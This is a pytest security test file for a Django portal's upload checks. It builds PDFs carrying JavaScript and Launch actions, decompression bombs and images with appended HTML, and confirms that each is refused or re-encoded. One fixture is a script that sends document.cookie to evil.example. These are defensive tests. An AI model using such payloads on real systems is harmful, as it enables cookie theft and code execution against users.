"""Uploads (security review): the whole content is checked, not only its first bytes; downloads never carry the
uploader's file name; parked uploads of abandoned submissions do not fill the disk.

Every hostile file is built here, small: a bomb is a few kilobytes of zlib output of a long run of zeros.
"""

import hashlib
import io
import os
import shutil
import struct
import time
import zlib
from pathlib import Path

import pytest
from django.conf import settings
from django.core.cache import cache
from django.urls import reverse
from PIL import Image
from pypdf import PdfReader, PdfWriter

from core.errors import InvalidInput
from dossiers import services
from dossiers.models import Attachment, Dossier
from dossiers.uploads import PARKED_DIR, check_upload
from portal import tasks
from tests.builders import (
    JPEG_BYTES,
    PDF_BYTES,
    PNG_BYTES,
    T_SUBMIT,
    World,
    at,
    image_file,
    pdf_file,
    upload,
)

pytestmark = pytest.mark.django_db

HTML = b"<html><body><script>document.location='https://evil.example/?'+document.cookie</script></body></html>"


@pytest.fixture(autouse=True)
def _clear_rate_limits_and_parked_files():
    cache.clear()
    shutil.rmtree(Path(settings.PRIVATE_STORAGE_ROOT) / PARKED_DIR, ignore_errors=True)  # the tests' own storage


@pytest.fixture
def world(db) -> World:
    return World()


def stored_files() -> set[Path]:
    return {p for p in Path(settings.PRIVATE_STORAGE_ROOT).rglob("*") if p.is_file()}


def parked_files() -> dict[str, int]:
    root = Path(settings.PRIVATE_STORAGE_ROOT) / PARKED_DIR
    return {p.name: p.stat().st_size for p in root.glob("*") if p.is_file()} if root.exists() else {}


def page_pdf(*extra_objects: bytes, catalog: bytes = b"", page: bytes = b"") -> bytes:
    """Catalogue 1, pages 2, one page 3, then `extra_objects` numbered 4, 5, …"""
    return pdf_file(
        b"<< /Type /Catalog /Pages 2 0 R " + catalog + b">>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] " + page + b">>",
        *extra_objects,
    )


def stream(data: bytes, dictionary: bytes = b"") -> bytes:
    return b"<< /Length %d %s>>\nstream\n" % (len(data), dictionary) + data + b"\nendstream"


def zeros_deflated(size: int) -> bytes:
    """zlib output of `size` zero bytes, compressed a megabyte at a time (the zeros never sit in memory)."""
    packer, out, block = zlib.compressobj(9), [], bytes(1 << 20)
    for _ in range(size >> 20):
        out.append(packer.compress(block))
    out.append(packer.compress(bytes(size & ((1 << 20) - 1))))
    out.append(packer.flush())
    return b"".join(out)


def pdf_with_object_stream(catalog: bytes = b"") -> bytes:
    """The catalogue inside a compressed object stream, with a cross-reference stream: nothing of it is
    readable in the raw bytes."""
    inner = [b"<< /Type /Catalog /Pages 2 0 R " + catalog + b">>", b"<< /Type /Pages /Kids [] /Count 0 >>"]
    bodies, offsets = b"", []
    for body in inner:
        offsets.append(len(bodies))
        bodies += body + b"\n"
    header = b" ".join(b"%d %d" % (n, off) for n, off in enumerate(offsets, 1)) + b"\n"
    packed = zlib.compress(header + bodies)
    out = b"%PDF-1.7\n"
    object_stream = len(out)
    out += (b"3 0 obj\n<< /Type /ObjStm /N 2 /First %d /Filter /FlateDecode /Length %d >>\nstream\n"
            % (len(header), len(packed)) + packed + b"\nendstream\nendobj\n")
    xref = len(out)
    rows = [(0, 0, 65535), (2, 3, 0), (2, 3, 1), (1, object_stream, 0), (1, xref, 0)]
    table = b"".join(bytes([kind]) + a.to_bytes(4, "big") + b.to_bytes(2, "big") for kind, a, b in rows)
    out += (b"4 0 obj\n<< /Type /XRef /Size 5 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n" % len(table)
            + table + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref)
    return out


def png_chunk(kind: bytes, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload)) + kind + payload + struct.pack(">I", zlib.crc32(kind + payload))


def refused(name: str, content: bytes) -> str:
    with pytest.raises(InvalidInput) as exc:
        check_upload(upload(name, content))
    assert f"“{name}”" in exc.value.message  # every refusal names the file
    return exc.value.message


# ---------------------------------------------------------------- the three files the review got accepted
OPEN_ACTION_JS = page_pdf(catalog=b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >> ")


def test_a_pdf_running_javascript_when_opened_is_refused_and_nothing_is_stored(world):
    dossier = world.received()
    before = stored_files()
    with pytest.raises(InvalidInput) as exc:
        services.attachment_add(dossier=dossier, actor=world.user("clerk@desk"),
                                uploaded=upload("hoa-don.pdf", OPEN_ACTION_JS))
    assert exc.value.message == (
        "Tệp “hoa-don.pdf” chứa mã JavaScript (có thể tự chạy khi mở tệp) nên không được chấp nhận. "
        "Hãy in lại tài liệu ra tệp PDF mới hoặc quét lại giấy tờ rồi đính kèm.")
    assert not Attachment.objects.exists() and stored_files() == before


def test_a_pdf_decompression_bomb_is_refused_without_being_inflated_in_memory():
    limit = settings.ONECUA["MAX_PDF_STREAM_BYTES"]
    packed = zeros_deflated(limit + (1 << 20))
    bomb = page_pdf(stream(packed, b"/Filter /FlateDecode "), page=b"/Contents 4 0 R ")
    assert len(bomb) < 200 * 1024  # a small file …
    started = time.monotonic()
    message = refused("bao-cao.pdf", bomb)  # … that would inflate to more than the limit
    assert message == ("Tệp “bao-cao.pdf” chứa dữ liệu nén mà khi giải nén vượt quá 50 MB nên không được chấp "
                       "nhận. Hãy in lại tài liệu ra tệp PDF mới hoặc quét lại giấy tờ rồi đính kèm.")
    assert time.monotonic() - started < 10


def test_a_png_signature_in_front_of_an_html_page_is_refused():
    message = refused("anh.png", b"\x89PNG\r\n\x1a\n" + HTML)
    assert message == ("Tệp “anh.png” không phải là ảnh PNG hợp lệ (không đọc được nội dung ảnh) nên không được "
                       "chấp nhận. Hãy chụp hoặc quét lại giấy tờ rồi đính kèm.")


# ---------------------------------------------------------------- more PDFs
@pytest.mark.parametrize("content", [
    page_pdf(b"<< /Names [(x) 5 0 R] >>", b"<< /S /JavaScript /JS (app.alert(1)) >>",
             catalog=b"/Names << /JavaScript 4 0 R >> "),  # document-level script (names tree)
    page_pdf(b"<< /S /JavaScript /JS 5 0 R >>", stream(b"app.alert(1)"),
             page=b"/AA << /O 4 0 R >> "),  # a page's additional action, the script in a stream
    page_pdf(catalog=b"/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >> "),  # escaped names
    page_pdf(catalog=b"/OpenAction << /S /URI /URI (javascript:app.alert(1)) >> "),
    pdf_with_object_stream(b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >> "),  # only in compressed objects
], ids=["names-tree", "page-aa", "escaped-names", "javascript-uri", "object-stream"])
def test_javascript_anywhere_in_a_pdf_is_refused(content):
    assert "chứa mã JavaScript" in refused("to-khai.pdf", content)


def test_a_pdf_with_a_launch_action_is_refused():
    content = page_pdf(catalog=b"/OpenAction << /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >> ")
    assert refused("to-khai.pdf", content) == (
        "Tệp “to-khai.pdf” chứa lệnh mở chương trình hoặc tệp khác (Launch) nên không được chấp nhận. "
        "Hãy in lại tài liệu ra tệp PDF mới hoặc quét lại giấy tờ rồi đính kèm.")


@pytest.mark.parametrize("content", [
    page_pdf(b"<< /Names [(hoa-don.html) 5 0 R] >>",
             b"<< /Type /Filespec /F (hoa-don.html) /EF << /F 6 0 R >> >>",
             stream(HTML, b"/Type /EmbeddedFile "),
             catalog=b"/Names << /EmbeddedFiles 4 0 R >> "),
    page_pdf(b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 10 10] /FS 5 0 R >>",
             b"<< /Type /Filespec /F (x.exe) >>", page=b"/Annots [4 0 R] "),
], ids=["embedded-files", "file-attachment-annotation"])
def test_a_pdf_carrying_another_file_is_refused(content):
    assert refused("to-khai.pdf", content) == (
        "Tệp “to-khai.pdf” có tệp khác đính kèm bên trong nên không được chấp nhận. Hãy đính kèm riêng từng giấy "
        "tờ dưới dạng tệp PDF, JPEG hoặc PNG.")


def test_a_bomb_compressed_twice_or_spread_over_streams_is_refused(settings):
    settings.ONECUA = {**settings.ONECUA, "MAX_PDF_STREAM_BYTES": 1 << 20, "MAX_PDF_TOTAL_STREAM_BYTES": 2 << 20}
    twice = zlib.compress(zeros_deflated(3 << 20), 9)
    assert "vượt quá 1 MB" in refused("a.pdf", page_pdf(
        stream(twice, b"/Filter [/FlateDecode /FlateDecode] "), page=b"/Contents 4 0 R "))
    spread = [stream(zeros_deflated(900 * 1024), b"/Filter /FlateDecode ") for _ in range(3)]
    assert "vượt quá 2 MB" in refused("b.pdf", page_pdf(*spread, page=b"/Contents [4 0 R 5 0 R 6 0 R] "))
    # Under both limits: accepted.
    check_upload(upload("c.pdf", page_pdf(*spread[:2], page=b"/Contents [4 0 R 5 0 R] ")))


def test_an_encrypted_or_unreadable_pdf_is_refused():
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    writer.encrypt("mat-khau", algorithm="RC4-128")
    buffer = io.BytesIO()
    writer.write(buffer)
    assert "được đặt mật khẩu hoặc mã hóa" in refused("khoa.pdf", buffer.getvalue())
    assert "bị hỏng hoặc không phải là tệp PDF hợp lệ" in refused("hong.pdf", b"%PDF-1.7\n" + HTML)


# ---------------------------------------------------------------- images
def test_a_jpeg_with_html_appended_is_stored_re_encoded_at_the_desk(world):
    dossier = world.received()
    attachment = services.attachment_add(dossier=dossier, actor=world.user("clerk@desk"),
                                         uploaded=upload("anh.jpg", JPEG_BYTES + HTML))
    stored = Path(attachment.file.path).read_bytes()
    assert HTML not in stored and b"<script" not in stored
    assert Image.open(io.BytesIO(stored)).size == Image.open(io.BytesIO(JPEG_BYTES)).size
    assert (attachment.size, attachment.sha256) == (len(stored), hashlib.sha256(stored).hexdigest())


def test_a_jpeg_with_html_appended_is_stored_re_encoded_from_the_portal(client, world):
    url = reverse("portal:submit", args=[world.procedure.national_code])
    with at(T_SUBMIT):
        review = client.post(url, {**applicant(world), f"file_{world.form.pk}": upload("anh.jpg", JPEG_BYTES + HTML)})
        assert review.status_code == 200
        assert all(HTML not in Path(settings.PRIVATE_STORAGE_ROOT, PARKED_DIR, name).read_bytes()
                   for name in parked_files())
        client.post(reverse("portal:submit_confirm", args=[world.procedure.national_code]),
                    {"payload": review.context["payload"]})
    attachment = Attachment.objects.get()
    stored = Path(attachment.file.path).read_bytes()
    assert HTML not in stored and stored.startswith(b"\xff\xd8\xff")
    assert (attachment.size, attachment.sha256) == (len(stored), hashlib.sha256(stored).hexdigest())


def test_what_hides_in_a_jpeg_comment_or_after_a_png_is_dropped():
    buffer = io.BytesIO()
    Image.new("RGB", (16, 12), (10, 120, 30)).save(buffer, "JPEG", comment=HTML)
    jpeg = check_upload(upload("a.jpg", buffer.getvalue()))
    png = check_upload(upload("a.png", PNG_BYTES + HTML))
    for checked in (jpeg, png):
        assert HTML not in checked.content.read()


def test_an_image_over_the_pixel_limit_is_refused(settings):
    header = png_chunk(b"IHDR", struct.pack(">IIBBBBB", 100_000, 100_000, 8, 2, 0, 0, 0))
    huge = b"\x89PNG\r\n\x1a\n" + header + png_chunk(b"IDAT", zlib.compress(b"")) + png_chunk(b"IEND", b"")
    assert refused("cccd.png", huge) == (
        "Tệp “cccd.png” là ảnh quá lớn (vượt quá 50 triệu điểm ảnh). Hãy chụp hoặc quét lại với độ phân giải thấp "
        "hơn rồi đính kèm.")
    settings.ONECUA = {**settings.ONECUA, "MAX_IMAGE_PIXELS": 100}  # the setting, below Pillow's own limit
    assert "vượt quá 0.0001 triệu điểm ảnh" in refused("nho.jpg", image_file("JPEG", (20, 10)))
    check_upload(upload("vua.jpg", image_file("JPEG", (10, 10))))


# ---------------------------------------------------------------- real files are still accepted
def test_the_fixtures_are_real_files():
    assert len(PdfReader(io.BytesIO(PDF_BYTES), strict=True).pages) == 1
    for content, image_format in ((PNG_BYTES, "PNG"), (JPEG_BYTES, "JPEG")):
        with Image.open(io.BytesIO(content), formats=[image_format]) as image:
            image.load()


@pytest.mark.parametrize("name, content, content_type", [
    ("to-khai.pdf", PDF_BYTES, "application/pdf"),
    ("to-khai-2.pdf", pdf_with_object_stream(), "application/pdf"),
    ("cccd.png", PNG_BYTES, "image/png"),
    ("anh.jpg", JPEG_BYTES, "image/jpeg"),
], ids=["pdf", "pdf-object-stream", "png", "jpeg"])
def test_a_valid_pdf_jpeg_or_png_is_accepted(name, content, content_type):
    checked = check_upload(upload(name, content))
    assert checked.content_type == content_type
    if content_type == "application/pdf":
        assert checked.content is None  # a PDF is stored as it is (a signature inside stays valid)
        assert checked.sha256 == hashlib.sha256(content).hexdigest()
    else:  # an image is stored re-encoded: the same picture, nothing else
        stored = checked.content.read()
        assert (checked.size, checked.sha256) == (len(stored), hashlib.sha256(stored).hexdigest())
        assert Image.open(io.BytesIO(stored)).tobytes() == Image.open(io.BytesIO(content)).tobytes()


# ---------------------------------------------------------------- downloads
def test_a_download_is_named_after_the_checklist_line_never_after_the_upload(client, world):
    dossier = world.received()
    clerk = world.user("clerk@desk")
    line = dossier.documents.create(name="Giấy đề nghị Đăng ký – bản chính", position=9)
    named = services.attachment_add(dossier=dossier, actor=clerk, uploaded=upload("invoicefdp.html", PDF_BYTES),
                                    document=line)
    loose = services.attachment_add(dossier=dossier, actor=clerk, uploaded=upload("<x>.html", PNG_BYTES))
    client.force_login(clerk)

    response = client.get(reverse("workspace:attachment", args=[dossier.pk, named.pk]))
    assert response["Content-Disposition"] == 'attachment; filename="giay-de-nghi-dang-ky-ban-chinh.pdf"'
    assert response["Content-Type"] == "application/pdf"
    assert response["X-Content-Type-Options"] == "nosniff"
    assert b"".join(response.streaming_content) == PDF_BYTES

    response = client.get(reverse("workspace:attachment", args=[dossier.pk, loose.pk]))
    assert response["Content-Disposition"] == 'attachment; filename="tep-dinh-kem.png"'
    assert response["Content-Type"] == "image/png"
    assert response["X-Content-Type-Options"] == "nosniff"


# ---------------------------------------------------------------- parked uploads
def applicant(world, **extra):
    return {"agency": world.desk.pk, "applicant_name": "Phạm Thị Ngọc Hương", "applicant_id_number": "079203004567",
            "applicant_phone": "0903123456", "applicant_email": "huong@example.vn",
            "applicant_address": "Ấp Bình Hòa, phường Một", **extra}


def one_megabyte_pdf() -> bytes:
    return page_pdf(stream(os.urandom(1 << 20)), page=b"/Contents 4 0 R ")


def test_the_clean_up_task_removes_parked_uploads_older_than_the_limit(settings):
    root = Path(settings.PRIVATE_STORAGE_ROOT)
    (root / PARKED_DIR).mkdir(parents=True, exist_ok=True)
    hours = settings.ONECUA["PARKED_UPLOAD_HOURS"]
    now = time.time()
    ages = {"old.pdf": hours * 3600 + 60, "older.png": 30 * 24 * 3600, "recent.pdf": hours * 3600 - 600, "new.jpg": 5}
    for name, age in ages.items():
        path = root / PARKED_DIR / name
        path.write_bytes(PDF_BYTES)
        os.utime(path, (now - age, now - age))
    kept_elsewhere = root / "attachments-test" / "old.pdf"  # not a parked upload: never touched
    kept_elsewhere.parent.mkdir(parents=True, exist_ok=True)
    kept_elsewhere.write_bytes(PDF_BYTES)
    os.utime(kept_elsewhere, (now - 90 * 24 * 3600,) * 2)

    assert tasks.remove_parked_uploads.apply().get() == 2
    assert set(parked_files()) == {"recent.pdf", "new.jpg"}
    assert kept_elsewhere.exists()
    assert tasks.remove_parked_uploads.apply().get() == 0  # idempotent
    entry = next(e for e in settings.CELERY_BEAT_SCHEDULE.values() if e["task"] == "portal.remove_parked_uploads")
    assert entry["schedule"].hour == set(range(24))  # every hour


def test_twenty_invalid_posts_of_the_same_files_leave_no_growth(client, world):
    url = reverse("portal:submit", args=[world.procedure.national_code])
    big = one_megabyte_pdf()
    invalid = applicant(world, applicant_phone="123")  # refused field: the form comes back
    first = client.post(url, {**invalid, f"file_{world.form.pk}": upload("to-khai.pdf", big)})
    assert first.status_code == 400 and "to-khai.pdf" in first.content.decode()  # the file is kept for the user
    after_first = parked_files()
    assert len(after_first) == 1
    for _ in range(19):
        response = client.post(url, {**invalid, f"file_{world.form.pk}": upload("to-khai.pdf", big)})
        assert response.status_code == 400
    assert parked_files() == after_first


def test_a_replaced_parked_file_is_deleted(client, world):
    url = reverse("portal:submit", args=[world.procedure.national_code])
    invalid = applicant(world, applicant_phone="123")
    first = client.post(url, {**invalid, f"file_{world.form.pk}": upload("a.pdf", one_megabyte_pdf()),
                              f"file_{world.proxy.pk}": upload("b.png", PNG_BYTES)})
    tokens = {f"kept_{s.line.pk}": s.token for s in first.context["slots"] if s.token}
    assert len(parked_files()) == 2
    for _ in range(5):  # the user keeps picking another file for the first line
        response = client.post(url, {**invalid, **tokens,
                                     f"file_{world.form.pk}": upload("a.pdf", one_megabyte_pdf())})
        tokens = {f"kept_{s.line.pk}": s.token for s in response.context["slots"] if s.token}
        assert len(parked_files()) == 2 and len(tokens) == 2


def test_posting_files_is_rate_limited_per_client_keeping_what_was_typed(client, world, settings):
    settings.ONECUA = {**settings.ONECUA, "UPLOAD_POSTS_PER_HOUR": 3}
    url = reverse("portal:submit", args=[world.procedure.national_code])
    invalid = applicant(world, applicant_phone="123")
    for n in range(3):
        assert client.post(url, {**invalid, f"file_{world.form.pk}": upload(f"{n}.png", image_file(
            "PNG", (8 + n, 8)))}).status_code == 400
    before = parked_files()
    limited = client.post(url, {**invalid, f"file_{world.form.pk}": upload("3.png", image_file("PNG", (20, 8)))})
    body = limited.content.decode()
    assert limited.status_code == 429
    assert ("Bạn đã gửi tệp đính kèm quá nhiều lần trong một giờ (tối đa 3 lần). Các tệp vừa chọn chưa được nhận; "
            "thông tin đã nhập vẫn được giữ nguyên. Vui lòng thử lại sau.") in body
    assert 'value="Phạm Thị Ngọc Hương"' in body and 'value="079203004567"' in body
    assert parked_files() == before  # the file was neither checked nor parked
    # Another client is not limited; a post without files (back from the review page) is not counted.
    other = client.post(url, {**invalid, f"file_{world.form.pk}": upload("x.png", PNG_BYTES)},
                        REMOTE_ADDR="198.51.100.7")
    assert other.status_code == 400
    assert client.post(url, invalid).status_code == 400
    assert not Dossier.objects.exists()
